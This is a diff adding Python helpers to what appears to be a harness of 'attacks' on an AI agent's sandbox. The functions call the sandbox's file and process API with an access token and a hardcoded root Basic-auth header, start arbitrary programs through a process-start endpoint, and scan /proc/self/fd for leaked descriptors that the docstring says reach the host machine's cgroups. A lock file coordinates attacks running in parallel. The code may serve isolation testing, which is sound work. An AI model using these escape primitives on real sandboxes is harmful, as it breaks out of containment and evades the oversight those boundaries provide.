@@ -206,6 +206,73 @@ def read_through(target):
     return f"{len(content)} bytes of {target}" if content else None
 
 
+def ask_agent(call, timeout=5, **request):
+    """What a call of the agent answers; nothing if it is refused."""
+    import json
+    import urllib.request
+
+    body = json.dumps(request).encode()
+    request = urllib.request.Request(f"{given('FILES')}/{call}", data=body, method="POST")
+    request.add_header("X-Access-Token", given("TOKEN"))
+    request.add_header("Authorization", "Basic cm9vdDo=")
+    request.add_header("Content-Type", "application/json")
+    try:
+        with urllib.request.urlopen(request, timeout=timeout) as answer:
+            return json.loads(answer.read(1 << 20))
+    except OSError:
+        return None
+
+
+def behind_descriptors(attempt):
+    """Tries something in the directories that the file API holds open and nobody else can reach. In the agent these
+    are cgroups of the machine."""
+    for number in range(3, 48):
+        if evidence := attempt(f"/proc/self/fd/{number}"):
+            return f"descriptor {number}: {evidence}"
+    return None
+
+
+def take_turns(kind):
+    """Holds a lock between attacks that run beside each other, until the file that it answers is closed."""
+    import fcntl
+
+    file = open("/tmp/attacks.lock", "a")
+    fcntl.flock(file, getattr(fcntl, kind))
+    return file
+
+
+def start_process(folder, program, *arguments):
+    """The output of a process that whoever serves the file API starts in a folder."""
+    with take_turns("LOCK_SH"):
+        return start_process_now(folder, program, *arguments)
+
+
+def start_process_now(folder, program, *arguments):
+    import base64
+    import json
+    import urllib.request
+
+    start = {"process": {"cmd": program, "args": arguments, "cwd": folder}, "stdin": False}
+    body = json.dumps(start).encode()
+    body = struct.pack(">BI", 0, len(body)) + body
+    request = urllib.request.Request(given("FILES") + "/process.Process/Start", data=body, method="POST")
+    request.add_header("X-Access-Token", given("TOKEN"))
+    request.add_header("Authorization", "Basic cm9vdDo=")
+    request.add_header("Content-Type", "application/connect+json")
+    try:
+        with urllib.request.urlopen(request, timeout=5) as stream:
+            answer = stream.read(1 << 20)
+    except OSError:
+        return ""
+    output = b""
+    while len(answer) >= 5:
+        length = struct.unpack_from(">BI", answer)[1]
+        message, answer = json.loads(answer[5 : 5 + length] or b"{}"), answer[5 + length :]
+        data = message.get("event", {}).get("data", {})
+        output += base64.b64decode(data.get("stdout", ""))
+    return output.decode().strip()
+
+
 def effective(program):
     """The effective capabilities of a program that prints its own."""
     import subprocess
